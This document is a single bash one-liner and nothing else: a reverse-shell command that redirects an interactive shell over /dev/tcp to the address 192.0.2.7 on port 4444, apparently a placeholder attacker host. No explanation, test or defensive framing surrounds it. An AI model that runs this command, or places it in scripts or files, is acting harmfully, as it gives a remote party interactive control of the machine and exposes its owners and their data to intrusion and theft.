bash -i >& /dev/tcp/192.0.2.7/4444 0>&1
